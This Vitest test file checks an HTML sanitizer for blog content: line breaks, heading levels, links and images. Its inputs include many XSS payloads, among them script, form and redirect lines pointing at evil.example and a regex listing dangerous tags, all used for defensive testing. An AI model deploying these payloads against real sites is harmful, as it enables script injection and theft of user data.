import { describe, expect, it } from "vitest";

import { sampleBlogs } from "#app/sample-content/sample-blogs.ts";
import { renderBlogContent } from "./blog-content.server.ts";

/** Whatever an attack looks like, none of these may survive into the page. */
function expectHarmless(html: string) {
  expect(html).not.toMatch(
    /<\s*(script|style|iframe|form|input|button|svg|math|object|embed|base|meta|link)\b/i,
  );
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/javascript:|vbscript:|data:/i);
  expect(html).not.toMatch(/\sstyle\s*=/i);
}

describe("renderBlogContent: line breaks (spec §9)", () => {
  it("turns every kind of newline into a line break", () => {
    expect(renderBlogContent("one\ntwo\r\nthree\rfour")).toBe("one<br />two<br />three<br />four");
  });

  it("keeps a blank line between paragraphs as two breaks", () => {
    expect(renderBlogContent("First paragraph.\n\nSecond paragraph.")).toBe(
      "First paragraph.<br /><br />Second paragraph.",
    );
  });

  it("adds no breaks around headings, lists and other blocks", () => {
    expect(renderBlogContent("Intro.\n\n<h3>Why it matters</h3>\n\nBody text.")).toBe(
      "Intro.<h2>Why it matters</h2>Body text.",
    );
    expect(renderBlogContent("<ul>\n  <li>One</li>\n  <li>Two</li>\n</ul>\nAfter")).toBe(
      "<ul><li>One</li><li>Two</li></ul>After",
    );
    expect(renderBlogContent("Above\n<hr>\nBelow")).toBe("Above<hr />Below");
  });

  it("leaves newlines inside a tag alone instead of breaking the tag", () => {
    expect(renderBlogContent('<a\n  href="/about"\r\n  title="About">us</a>\nnext')).toBe(
      '<a href="/about" title="About" rel="noopener noreferrer">us</a><br />next',
    );
  });

  it("keeps the simple formatting an editor uses", () => {
    const html = renderBlogContent(
      "<p><strong>Bold</strong> <b>b</b> <em>em</em> <i>i</i> <u>u</u> <code>x = 1</code></p><blockquote>Quote</blockquote><ol><li>A</li></ol><pre>code</pre>",
    );
    expect(html).toBe(
      "<p><strong>Bold</strong> <b>b</b> <em>em</em> <i>i</i> <u>u</u> <code>x = 1</code></p><blockquote>Quote</blockquote><ol><li>A</li></ol><pre>code</pre>",
    );
  });

  it("starts the content's headings at h2 under the page title, keeping their order", () => {
    expect(renderBlogContent("<h3>Section</h3><h4>Part</h4><h3>Next</h3>")).toBe(
      "<h2>Section</h2><h3>Part</h3><h2>Next</h2>",
    );
    expect(renderBlogContent("<h2>Section</h2><h3>Part</h3>")).toBe("<h2>Section</h2><h3>Part</h3>");
    expect(renderBlogContent("<H1>Big</H1><h2>Two</h2><h5>Five</h5><h6>Six</h6>")).toBe(
      "<h2>Big</h2><h3>Two</h3><h4>Five</h4><h4>Six</h4>",
    );
  });

  it("escapes text that only looks like markup", () => {
    expect(renderBlogContent("Plots from 5 < 10 lakh & more > less")).toBe(
      "Plots from 5 &lt; 10 lakh &amp; more &gt; less",
    );
  });

  it("renders every sample blog with its headings and without stray markup", () => {
    for (const blog of sampleBlogs) {
      const html = renderBlogContent(blog.content);
      expect(html).toContain("<h2>");
      expect(html).toContain("<br /><br />");
      expect(html).not.toMatch(/<br \/>\s*<h2>|<\/h2>\s*<br \/>/);
      expectHarmless(html);
    }
  });
});

describe("renderBlogContent: links", () => {
  it("opens external links in a new tab without handing over the page", () => {
    expect(renderBlogContent('<a href="https://tnrera.in" target="_self" rel="opener">TNRERA</a>')).toBe(
      '<a href="https://tnrera.in" rel="noopener noreferrer" target="_blank">TNRERA</a>',
    );
  });

  it("keeps site links in the same tab", () => {
    expect(renderBlogContent('<a href="/projects" title="Projects">our projects</a>')).toBe(
      '<a href="/projects" title="Projects" rel="noopener noreferrer">our projects</a>',
    );
  });

  it("allows mailto: and tel: links", () => {
    expect(renderBlogContent('<a href="tel:+919876543210">Call</a>')).toBe(
      '<a href="tel:+919876543210" rel="noopener noreferrer">Call</a>',
    );
    expect(renderBlogContent('<a href="mailto:sales@example.in">Mail</a>')).toContain(
      'href="mailto:sales@example.in"',
    );
  });

  it.each([
    ['<a href="javascript:alert(1)">click</a>'],
    ['<a href="JaVaScRiPt:alert(1)">click</a>'],
    ['<a href=" javascript:alert(1)">click</a>'],
    ['<a href="&#106;avascript:alert(1)">click</a>'],
    ['<a href="&#x6A;avascript&#x3A;alert(1)">click</a>'],
    ['<a href="jav&#x09;ascript:alert(1)">click</a>'],
    ['<a href="java\nscript:alert(1)">click</a>'],
    ['<a href="vbscript:msgbox(1)">click</a>'],
    ['<a href="data:text/html,<script>alert(1)</script>">click</a>'],
    ['<A HREF="javascript:alert(1)" OnClick="alert(2)">click</A>'],
  ])("drops a dangerous address but keeps the text: %s", (input) => {
    const html = renderBlogContent(input);
    expect(html).toBe("click");
    expectHarmless(html);
  });
});

describe("renderBlogContent: images", () => {
  it("keeps our media, lazily loaded and with an alt attribute", () => {
    expect(renderBlogContent('<img src="/media/0123456789abcdef-1600x1200" alt="Site">')).toBe(
      '<img src="/media/0123456789abcdef-1600x1200" alt="Site" loading="lazy" decoding="async" />',
    );
    expect(renderBlogContent('<IMG SRC="/media/0123456789abcdef-1600x1200" WIDTH="800" height="600">')).toBe(
      '<img src="/media/0123456789abcdef-1600x1200" alt="" width="800" height="600" loading="lazy" decoding="async" />',
    );
  });

  it("leaves out another site's picture, which the page's policy would block (a broken picture)", () => {
    expect(
      renderBlogContent('<p>Before</p><IMG SRC="https://example.com/plot.jpg" WIDTH="800"><p>After</p>'),
    ).toBe("<p>Before</p><p>After</p>");
  });

  it.each([
    ["<img src=x onerror=alert(1)>"],
    ['<img src="/media/x.png" onerror="alert(1)" onload="alert(2)">'],
    ['<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
    ['<img src="javascript:alert(1)">'],
    ['<img src="http://example.com/plain-http.jpg">'],
    ['<img src="//evil.example/x.png">'],
    ['<img src="/media/../admin/logout">'],
    ["<img>"],
  ])("drops an image from anywhere else and every handler: %s", (input) => {
    const html = renderBlogContent(input);
    expect(html).not.toMatch(/onerror|onload|alert/i);
    if (html !== "")
      expect(html).toMatch(/^<img src="\/media\/x\.png" alt="" loading="lazy" decoding="async" \/>$/);
    expectHarmless(html);
  });

  it("ignores a width that is not a plain number", () => {
    expect(renderBlogContent('<img src="/media/a-1x1" width="100%;x">')).not.toContain("width");
  });
});

describe("renderBlogContent: everything else is removed", () => {
  it.each([
    ["<script>alert(1)</script>Safe", "Safe"],
    ["<SCRIPT SRC=https://evil.example/x.js></SCRIPT>Safe", "Safe"],
    ["<svg onload=alert(1)><circle r=1 /></svg>Safe", "Safe"],
    ["<svg><script>alert(1)</script></svg>Safe", "Safe"],
    ['<iframe src="https://evil.example"></iframe>Safe', "Safe"],
    ["<style>body { display: none }</style>Safe", "Safe"],
    ['<form action="https://evil.example"><input name="card"><button>Pay</button></form>', "Pay"],
    ['<object data="x.swf"></object><embed src="x.swf">Safe', "Safe"],
    ['<base href="https://evil.example/">Safe', "Safe"],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">Safe', "Safe"],
    ['<link rel="stylesheet" href="https://evil.example/x.css">Safe', "Safe"],
    [
      '<p style="position:fixed;inset:0" class="overlay" id="x" OnMouseOver="alert(1)">Safe</p>',
      "<p>Safe</p>",
    ],
    ['<div onclick="alert(1)">Safe</div>', "Safe"],
    ["<details open ontoggle=alert(1)>Safe</details>", "Safe"],
    ["<!-- <script>alert(1)</script> -->Safe", "Safe"],
  ])("%s", (input, expected) => {
    const html = renderBlogContent(input);
    expect(html).toBe(expected);
    expectHarmless(html);
  });

  it.each([
    ["<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ['<a href="https://ok.example"><img src=x onerror=alert(1)>x</a>'],
    ["<scr<script>ipt>alert(1)</scr</script>ipt>"],
    ['<img src="x" onerror="&#97;lert(1)">'],
    ['"><img src=x onerror=alert(1)>'],
  ])("defuses the mutation and nesting trick %s", (input) => {
    expectHarmless(renderBlogContent(input));
    expect(renderBlogContent(input)).not.toMatch(/<img[^>]*onerror/i);
  });
});
